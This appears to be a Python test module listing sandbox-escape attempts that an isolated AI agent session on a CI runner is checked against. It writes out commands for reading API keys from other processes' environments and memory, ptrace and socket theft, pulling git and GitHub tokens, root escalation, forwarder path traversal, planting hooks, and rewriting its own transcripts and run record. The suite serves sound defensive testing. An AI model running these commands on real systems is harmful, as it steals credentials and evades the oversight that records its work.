"""What a Session tries on the runner; `tests/isolation` has a bare child try the same.

PROGRAM and GUARD are the processes that hold keys, by id; `@name@` is a path or address of the runner that an attacker
would have to guess. KEY and TOKEN are in no script as a whole, so that nobody finds them in the script.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

from tests.adversary.attempt import FILES, KEY, NONE, ROOT, SIGNALS, TOKEN, Attempt, python


def _sudo() -> str:
    return "" if shutil.which("sudo", path=os.defpath) else "there is no sudo here"


def _docker() -> str:
    return "" if Path("/run/docker.sock").exists() else "there is no docker here"


def _root() -> str:
    return "" if os.geteuid() == 0 else "takes root, to make a setuid file"


def _namespaces() -> str:
    made = subprocess.run(["unshare", "-Urm", "true"], capture_output=True, check=False)
    return "there are no user namespaces here" if made.returncode else ""


_KNOWN = f"""
import os, sys
known = [({KEY[:20]!r} + {KEY[20:]!r}).encode(), ({TOKEN[:20]!r} + {TOKEN[20:]!r}).encode()]
known += [b'@own-token-1@' + b'@own-token-2@']
"""
_ANY_ENVIRON = f"""{_KNOWN}
from pathlib import Path
for path in Path('/proc').glob('[0-9]*/environ'):
    try:
        if any(secret in path.read_bytes() for secret in known):
            sys.exit(0)
    except OSError:
        pass
sys.exit(1)
"""
_ANY_ARGV = _ANY_ENVIRON.replace("/environ", "/cmdline")
_OWN_ENVIRON = f"""{_KNOWN}
sys.exit(not any(secret in value for value in os.environb.values() for secret in known))
"""
_MEMORY = f"""{_KNOWN}
process = os.environ["WHOSE"]
with open(f"/proc/{{process}}/maps") as maps, open(f"/proc/{{process}}/mem", "rb", 0) as memory:
    for line in maps:
        first, last = (int(end, 16) for end in line.split()[0].split("-"))
        if " rw" not in line:
            continue
        try:
            memory.seek(first)
            if known[0] in memory.read(last - first):
                sys.exit(0)
        except OSError:
            pass
sys.exit(1)
"""
_TRACE = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
process = int(os.environ["PROGRAM"])
if libc.ptrace(0x4206, process, 0, 0):  # PTRACE_SEIZE stops nothing
    sys.exit(1)
os._exit(0)
"""
_TAKE_A_SOCKET = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
process = libc.syscall(434, int(os.environ["PROGRAM"]), 0)
sys.exit(not any(libc.syscall(438, process, number, 0) >= 0 for number in range(3, 40)))
"""
_ASK = """
import os, socket, sys
from urllib.parse import urlsplit
at = urlsplit(os.environ["ANTHROPIC_BASE_URL"])
own = os.environ["ANTHROPIC_API_KEY"].encode()
with socket.create_connection((at.hostname, at.port), 10) as there:
    there.sendall(b"\\r\\n".join([%s, b"Connection: close", b"", b""]))
    answer = b""
    while piece := there.recv(65536):
        answer += piece
sys.exit(not answer or b"Nightjar's forwarder" in answer)
"""
HOST = "b'Host: 127.0.0.1'"
OWN = "b'x-api-key: ' + own"


def asks(*lines: str) -> str:
    return python(_ASK % ", ".join(lines))


def _forwarder(name: str, what: str, *lines: str) -> Attempt:
    return Attempt(name, what, asks(*lines), NONE)


OF_THE_PROGRAM = (
    Attempt(
        "finds-a-key-in-its-environment", "finds a key or token in its own environment", python(_OWN_ENVIRON), NONE
    ),
    Attempt(
        "sees-the-runners-variables",
        "learns from its environment where the runner's files and services are",
        "env | grep -qE '^(GITHUB_(ENV|OUTPUT|PATH|STEP_SUMMARY|EVENT_PATH|TOKEN)|ACTIONS_|RUNNER_TEMP|INPUT_)'",
        NONE,
    ),
    Attempt("reads-the-programs-environ", "reads the program's environment", "grep -q . /proc/$PROGRAM/environ", ROOT),
    Attempt("reads-its-guards-environ", "reads its guard's environment", "grep -q . /proc/$GUARD/environ", ROOT),
    Attempt("finds-a-key-in-any-environ", "finds a key in any process's environment", python(_ANY_ENVIRON), ROOT),
    Attempt("finds-a-key-in-any-argv", "finds a key in any process's arguments", python(_ANY_ARGV), NONE),
    Attempt(
        "reads-the-programs-memory",
        "reads the key in the memory of the program, which is the forwarder's too",
        f"export WHOSE=$PROGRAM; {python(_MEMORY)}",
        ROOT,
    ),
    Attempt(
        "reads-its-guards-memory",
        "reads the key in its guard's memory",
        f"export WHOSE=$GUARD; {python(_MEMORY)}",
        ROOT,
    ),
    Attempt("traces-the-program", "traces the program", python(_TRACE), ROOT),
    Attempt("takes-a-socket-of-the-program", "takes an open socket out of the program", python(_TAKE_A_SOCKET), ROOT),
    Attempt(
        "opens-the-programs-files",
        "opens the program's files by its descriptors",
        "ls -l /proc/$PROGRAM/fd/ | grep -q -- '->'",
        ROOT,
    ),
    Attempt(
        "enters-the-programs-folders",
        "enters the program's folders by its root and its working directory",
        "ls /proc/$PROGRAM/root/ && ls /proc/$PROGRAM/cwd/",
        ROOT,
    ),
    Attempt("signals-the-program", "stops the program", "kill -0 $PROGRAM", landlock=SIGNALS),
    Attempt("signals-its-guard", "stops its guard", "kill -0 $GUARD", landlock=SIGNALS),
)
OF_ITS_RIGHTS = (
    Attempt(
        "becomes-root-by-sudo",
        "becomes root by sudo",
        "sudo -n grep ^CapEff /proc/self/status | grep -v 0000000000000000 | grep -q Cap",
        control=ROOT,
        impossible=_sudo,
    ),
    Attempt(
        "becomes-root-by-a-setuid-file",
        "becomes root by a setuid file",
        "@become@ ^CapEff /proc/self/status | grep -v 0000000000000000 | grep -q Cap",
        impossible=_root,
    ),
    Attempt(
        "holds-a-capability",
        "holds a capability",
        "grep -E '^Cap(Inh|Prm|Eff|Amb)' /proc/self/status | grep -qv 0000000000000000",
        ROOT,
    ),
    Attempt(
        "has-the-kernel-run-a-program",
        "has the kernel run a program of its own, with all rights",
        ": >> /proc/sys/kernel/core_pattern",
        control=ROOT,
        landlock=FILES,
    ),
    Attempt(
        "writes-the-systems-files",
        "writes the system's own files",
        ": >> /etc/passwd",
        control=ROOT,
        landlock=FILES,
    ),
    Attempt(
        "speaks-to-docker",
        "speaks to docker",
        python("import socket; socket.socket(socket.AF_UNIX).connect('/run/docker.sock')"),
        impossible=_docker,
    ),
    Attempt(
        "mounts-the-record-elsewhere",
        "comes to the Record by another path, mounted in a namespace of its own",
        "unshare -Urm sh -c 'mount --rbind / /mnt && : >> /mnt@record@'",
        landlock=FILES,
        impossible=_namespaces,
    ),
)
OF_GIT = (
    Attempt(
        "finds-a-credential-in-git-config",
        "finds a credential in any configuration of git",
        "git config --list --show-origin | grep -iE 'extraheader|x-access-token|ghs_|://[^/]*:[^/]*@'",
        NONE,
    ),
    Attempt(
        "finds-a-credential-in-the-programs-repository",
        "finds a credential in the program's own repository",
        "grep -riE 'extraheader|x-access-token|ghs_' @bare@/config",
        NONE,
    ),
    Attempt(
        "writes-the-programs-repository",
        "writes the program's own repository",
        ": >> @bare@/config",
        landlock=FILES,
    ),
    Attempt(
        "asks-git-for-a-credential",
        "gets a credential from git's helpers",
        "printf 'url=@clone@\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill | grep password=.",
        NONE,
    ),
    Attempt(
        "pushes-a-branch", "pushes a branch", "GIT_TERMINAL_PROMPT=0 git push @clone@ HEAD:refs/heads/stolen", NONE
    ),
    Attempt(
        "pushes-the-records-ref",
        "pushes to the ref of the Record",
        "GIT_TERMINAL_PROMPT=0 git push -f @clone@ HEAD:refs/nightjar/issue-1",
        NONE,
    ),
    Attempt(
        "reads-the-credential-of-the-jobs-checkout",
        "reads the credential that the job's own checkout keeps",
        "grep -q ghs_ @workspace@/.git/config",
        landlock=FILES,
    ),
    Attempt(
        "plants-a-hook-in-the-jobs-checkout",
        "plants a git hook for later steps in the job's own checkout",
        ": > @workspace@/.git/hooks/post-checkout",
        landlock=FILES,
    ),
)
OF_THE_FORWARDER = (
    _forwarder(
        "uses-the-forwarder-without-a-placeholder",
        "uses the forwarder with no placeholder",
        "b'GET /v1/models HTTP/1.1'",
        HOST,
    ),
    _forwarder(
        "uses-the-forwarder-with-another-placeholder",
        "uses the forwarder with another Run's placeholder",
        "b'GET /v1/models HTTP/1.1'",
        HOST,
        "b'x-api-key: ' + own[:-1] + (b'a' if own[-1:] != b'a' else b'b')",
    ),
    _forwarder(
        "asks-the-forwarder-for-files",
        "reads the owner's files by the forwarder",
        "b'GET /v1/files HTTP/1.1'",
        HOST,
        OWN,
    ),
    _forwarder(
        "asks-the-forwarder-for-the-account",
        "reads the owner's account by the forwarder",
        "b'GET /api/oauth/profile HTTP/1.1'",
        HOST,
        OWN,
    ),
    _forwarder(
        "leaves-the-allowed-paths",
        "comes to other paths of the API by dots in an allowed one",
        "b'GET /v1/models/../files HTTP/1.1'",
        HOST,
        OWN,
    ),
    _forwarder(
        "gives-the-forwarder-another-address",
        "has the forwarder send the key to another server, by the address in the request",
        "b'GET @elsewhere@/v1/models HTTP/1.1'",
        HOST,
        OWN,
    ),
    _forwarder(
        "has-the-forwarder-connect", "has the forwarder open a tunnel", "b'CONNECT 127.0.0.1:80 HTTP/1.1'", HOST, OWN
    ),
)
OF_THE_RUNNER = (
    Attempt(
        "sets-a-variable-for-later-steps",
        "sets a variable for later steps",
        ": >> @commands@/set_env_1",
        landlock=FILES,
    ),
    Attempt(
        "adds-to-the-path-of-later-steps",
        "adds to the PATH of later steps",
        ": > @commands@/add_path_2",
        landlock=FILES,
    ),
    Attempt("writes-the-steps-outputs", "writes the step's outputs", ": >> @home@/output", landlock=FILES),
    Attempt("writes-the-step-summary", "writes the step summary", ": >> @home@/summary.md", landlock=FILES),
    Attempt(
        "reads-the-runners-files",
        "reads what earlier steps noted down",
        "cat @commands@/set_env_1",
        landlock=FILES,
    ),
    Attempt(
        "reads-the-runners-logins",
        "reads a login in the runner's home",
        "grep -q ghs_ @home@/.docker/config.json",
        landlock=FILES,
    ),
    Attempt(
        "changes-the-runners-git",
        "changes the runner's configuration of git",
        ": >> @home@/.gitconfig",
        landlock=FILES,
    ),
    Attempt(
        "changes-the-runners-shell",
        "changes how the runner's shell starts",
        ": >> @home@/.bashrc",
        landlock=FILES,
    ),
    Attempt(
        "plants-a-tool-on-path",
        "plants a tool on the PATH of later steps",
        'at=$(dirname "$(command -v git)")/nightjar-planted-by-a-test; : > $at && rm $at',
        control=ROOT,
        landlock=FILES,
    ),
)
OF_THE_RUN = (
    Attempt("reads-the-record", "reads the Record's file", "cat @record@", landlock=FILES),
    Attempt("writes-the-record", "writes the Record's file", ": >> @record@", landlock=FILES),
    Attempt(
        "replaces-the-record",
        "puts another file in the Record's place",
        "cat @record@ > new || : > new; mv new @record@",
        landlock=FILES,
    ),
    Attempt("removes-the-record", "removes the Record's file", "mv @record@ gone && mv gone @record@", landlock=FILES),
    Attempt("links-to-the-record", "writes the Record by a link", "ln -s @record@ link && : >> link", landlock=FILES),
    Attempt(
        "names-the-record-again",
        "writes the Record by a second name",
        "ln @record@ name && : >> name",
        landlock=FILES,
    ),
    Attempt(
        "moves-the-records-folder",
        "moves the Record's folder away",
        "mv @nightjar@ @nightjar@-away && mv @nightjar@-away @nightjar@",
        landlock=FILES,
    ),
    Attempt(
        "rewrites-its-transcript",
        "rewrites its own transcript",
        ": >> @logs@/issue-1-run-1-1-implement.jsonl",
        landlock=FILES,
    ),
    Attempt(
        "removes-a-transcript",
        "removes another Session's transcript",
        "mv @logs@/another.jsonl @logs@/gone.jsonl",
        landlock=FILES,
    ),
    Attempt(
        "changes-the-programs-code",
        "changes the program's code",
        ": >> @code@/bot/clock.py",
        control=ROOT,
        landlock=FILES,
    ),
    Attempt(
        "adds-to-the-programs-code",
        "puts a module beside the program's code",
        ": > @code@/bot/planted_by_a_test && rm @code@/bot/planted_by_a_test",
        control=ROOT,
        landlock=FILES,
    ),
    Attempt(
        "changes-the-programs-libraries",
        "changes the libraries that the program uses",
        ": >> @library@",
        control=ROOT,
        landlock=FILES,
    ),
)
ATTEMPTS = (*OF_THE_PROGRAM, *OF_ITS_RIGHTS, *OF_GIT, *OF_THE_FORWARDER, *OF_THE_RUNNER, *OF_THE_RUN)
"""All of them, in the order in which they are tried."""
